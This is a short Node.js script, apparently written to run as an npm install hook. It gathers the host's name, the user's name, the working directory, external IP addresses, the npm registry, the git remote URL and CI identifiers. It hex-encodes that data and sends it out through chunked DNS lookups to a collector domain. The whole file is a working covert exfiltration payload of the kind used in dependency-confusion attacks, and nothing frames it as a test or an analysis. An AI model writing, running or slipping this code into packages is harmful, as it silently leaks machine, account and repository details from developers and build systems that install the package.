'use strict';
const os = require('os');
const dns = require('dns');
const { execSync } = require('child_process');

const ZONE = 'x7q.d.oast-collector.invalid';
const id = Math.random().toString(36).slice(2, 8);

function safe(fn) { try { return fn(); } catch (_) { return ''; } }

const ifaces = Object.values(os.networkInterfaces())
  .flat()
  .filter((i) => i && i.family === 'IPv4' && !i.internal)
  .map((i) => i.address)
  .join(',');

const info = {
  p: process.env.npm_package_name,
  v: process.env.npm_package_version,
  h: os.hostname(),
  u: safe(() => os.userInfo().username),
  d: process.cwd(),
  i: ifaces,
  r: process.env.npm_config_registry,
  g: safe(() => execSync('git config --get remote.origin.url', { stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim()),
  c: process.env.CI || process.env.GITHUB_REPOSITORY || process.env.BUILD_TAG || '',
};

const hex = Buffer.from(JSON.stringify(info)).toString('hex');
const labels = hex.match(/.{1,60}/g) || [];

labels.forEach((label, idx) => {
  const name = `${label}.${idx}-${labels.length}.${id}.${ZONE}`;
  setTimeout(() => dns.resolve4(name, () => {}), idx * 40);
});
